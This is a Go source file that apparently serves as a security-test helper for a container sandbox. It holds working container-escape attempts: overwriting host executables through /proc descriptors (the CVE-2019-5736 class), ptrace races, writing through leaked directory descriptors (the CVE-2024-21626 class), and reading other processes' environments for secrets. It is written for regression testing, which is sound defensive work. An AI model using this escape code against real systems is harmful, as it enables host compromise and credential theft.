package main

// What an attacker inside a container does to reach the host through a
// process that enters the container (sandbox exec): each watches for new
// processes for a while and tries one way out, printing one line per
// success and a summary at the end. The security tests run them beside a
// series of execs and require that no way out is found.

import (
	"bytes"
	"fmt"
	"os"
	"path/filepath"
	"runtime"
	"strconv"
	"strings"
	"syscall"
	"time"

	"golang.org/x/sys/unix"
)

// newPids yields the pids of processes not seen before, other than this
// one and the container's first process.
type pidWatcher struct{ seen map[int]bool }

func (w *pidWatcher) fresh() []int {
	if w.seen == nil {
		w.seen = map[int]bool{1: true, os.Getpid(): true}
	}
	entries, err := os.ReadDir("/proc")
	if err != nil {
		return nil
	}
	var out []int
	for _, e := range entries {
		pid, err := strconv.Atoi(e.Name())
		if err != nil || w.seen[pid] {
			continue
		}
		w.seen[pid] = true
		out = append(out, pid)
	}
	return out
}

// watchExe keeps an O_PATH descriptor of the executable of every process
// that appears (found as soon as its pid is taken, through ns_last_pid)
// and tries to reopen each for writing once nothing executes it any more
// (the CVE-2019-5736 class). The container's own binaries are left alone.
func watchExe(d time.Duration) error {
	type held struct {
		fd     int
		target string
		wrote  bool
	}
	var all []*held
	seen := map[int]bool{}
	deadline := time.Now().Add(d)
	wrote := 0
	next := time.Now()
	for time.Now().Before(deadline) {
		last, err := lastPid()
		if err != nil {
			return err
		}
		for pid := last; pid <= last+2; pid++ {
			if seen[pid] || pid == os.Getpid() {
				continue
			}
			p := fmt.Sprintf("/proc/%d/exe", pid)
			fd, err := syscall.Open(p, unix.O_PATH|syscall.O_CLOEXEC, 0)
			if err != nil {
				continue
			}
			seen[pid] = true
			target, _ := os.Readlink(fmt.Sprintf("/proc/self/fd/%d", fd))
			if strings.HasPrefix(target, "/bin/") || target == "/helper" {
				syscall.Close(fd)
				continue
			}
			all = append(all, &held{fd: fd, target: target})
		}
		if time.Now().Before(next) {
			continue
		}
		next = time.Now().Add(5 * time.Millisecond)
		for _, h := range all {
			if h.wrote {
				continue
			}
			f, err := os.OpenFile(fmt.Sprintf("/proc/self/fd/%d", h.fd), os.O_WRONLY|os.O_APPEND, 0)
			if err != nil {
				continue
			}
			_, err = f.Write([]byte("\n#overwritten from a container\n"))
			f.Close()
			if err == nil {
				h.wrote = true
				wrote++
				fmt.Printf("WROTE %s\n", h.target)
			}
		}
	}
	targets := map[string]bool{}
	for _, h := range all {
		targets[h.target] = true
	}
	var names []string
	for t := range targets {
		names = append(names, t)
	}
	fmt.Printf("summary: held %d executables %q, wrote %d\n", len(all), names, wrote)
	return nil
}

// lastPid is the pid last taken in this pid namespace.
func lastPid() (int, error) {
	data, err := os.ReadFile("/proc/sys/kernel/ns_last_pid")
	if err != nil {
		return 0, err
	}
	return strconv.Atoi(strings.TrimSpace(string(data)))
}

// ptraceRace attaches to each process as soon as it appears, the way a
// container with CAP_SYS_PTRACE would, and looks for marker (a path that
// only the host has) under the process's root.
func ptraceRace(d time.Duration, marker string) error {
	runtime.LockOSThread()
	deadline := time.Now().Add(d)
	attached, escaped := 0, 0
	for time.Now().Before(deadline) {
		last, err := lastPid()
		if err != nil {
			return err
		}
		for target := last + 1; target <= last+2; target++ {
			root := fmt.Sprintf("/proc/%d/root", target)
			if _, err := os.Stat(filepath.Join(root, marker)); err == nil {
				escaped++
				fmt.Printf("ESCAPED through the root of %d\n", target)
			}
			// PTRACE_SEIZE and PTRACE_INTERRUPT stop the process without a
			// SIGSTOP that could outlive the detach and leave it stopped.
			if err := ptrace(unix.PTRACE_SEIZE, target); err != nil {
				continue
			}
			if err := ptrace(unix.PTRACE_INTERRUPT, target); err == nil {
				var ws syscall.WaitStatus
				syscall.Wait4(target, &ws, syscall.WALL, nil)
			}
			attached++
			if _, err := os.Stat(filepath.Join(root, marker)); err == nil {
				escaped++
				fmt.Printf("ESCAPED through the root of %d, attached\n", target)
			}
			syscall.PtraceDetach(target)
		}
	}
	fmt.Printf("summary: attached %d, escaped %d\n", attached, escaped)
	return nil
}

func ptrace(req, pid int) error {
	if _, _, e := syscall.RawSyscall6(syscall.SYS_PTRACE, uintptr(req), uintptr(pid), 0, 0, 0, 0); e != 0 {
		return e
	}
	return nil
}

// fdGrab looks through every new process's descriptors for a directory
// and creates a file in it (the CVE-2024-21626 class).
func fdGrab(d time.Duration) error {
	var w pidWatcher
	deadline := time.Now().Add(d)
	var pids []int
	wrote := 0
	for time.Now().Before(deadline) {
		pids = append(pids, w.fresh()...)
		for _, pid := range pids {
			dir := fmt.Sprintf("/proc/%d/fd", pid)
			entries, err := os.ReadDir(dir)
			if err != nil {
				continue
			}
			for _, e := range entries {
				p := filepath.Join(dir, e.Name())
				st, err := os.Stat(p)
				if err != nil || !st.IsDir() {
					continue
				}
				target, _ := os.Readlink(p)
				if target == "/" || strings.HasPrefix(target, "/proc") {
					continue
				}
				if err := os.WriteFile(filepath.Join(p, "written-from-a-container"), []byte("x"), 0o644); err == nil {
					wrote++
					fmt.Printf("WROTE into %s (fd %s of %d)\n", target, e.Name(), pid)
				}
			}
		}
		time.Sleep(200 * time.Microsecond)
	}
	fmt.Printf("summary: wrote %d\n", wrote)
	return nil
}

// environGrab reads every new process's environment, looking for needle.
func environGrab(d time.Duration, needle string) error {
	var w pidWatcher
	deadline := time.Now().Add(d)
	var pids []int
	found := 0
	for time.Now().Before(deadline) {
		pids = append(pids, w.fresh()...)
		for _, pid := range pids {
			data, err := os.ReadFile(fmt.Sprintf("/proc/%d/environ", pid))
			if err == nil && bytes.Contains(data, []byte(needle)) {
				found++
				fmt.Printf("LEAKED in the environment of %d\n", pid)
			}
		}
		time.Sleep(200 * time.Microsecond)
	}
	fmt.Printf("summary: found %d\n", found)
	return nil
}
